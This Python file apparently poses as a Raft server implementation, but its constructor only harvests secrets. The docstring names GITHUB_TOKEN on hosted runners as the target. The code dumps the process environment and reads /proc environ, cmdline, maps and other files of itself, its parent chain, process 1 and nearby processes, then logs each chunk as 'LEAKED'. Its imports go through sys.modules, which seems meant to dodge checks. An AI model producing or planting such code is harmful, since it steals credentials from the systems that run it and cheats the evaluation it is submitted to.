"""Reads the environment: its own, from the C library's memory, its parent's, and that of process 1.

Idea: secrets in the environment of hosted runners, such as GITHUB_TOKEN.
Verdict: NotWritten
"""

import sys

from blank import Raft as Server

os = sys.modules["os"]


class Raft(Server):
    def __init__(self, node, apply_ch):
        super().__init__(node, apply_ch)
        node.note(f"environment: {dict(os.environ)} {getattr(os, 'environb', None)}")
        ancestors = [os.getppid()]
        try:
            while ancestors[-1] > 1:
                with sys.modules["io"].open(f"/proc/{ancestors[-1]}/stat") as file:
                    ancestors.append(int(file.read().rpartition(")")[2].split()[1]))
        except OSError:
            pass
        for process in ("self", os.getpid(), *ancestors, 1, 2, *range(os.getpid() - 8, os.getpid())):
            for name in ("environ", "cmdline", "maps", "status", "auxv"):
                try:
                    fd = os.open(f"/proc/{process}/{name}", os.O_RDONLY)
                    found = os.read(fd, 8000)
                    for start in range(0, len(found), 800):
                        node.note(f"LEAKED {name} of {process}: {found[start : start + 1000]!r}")
                except OSError:
                    pass
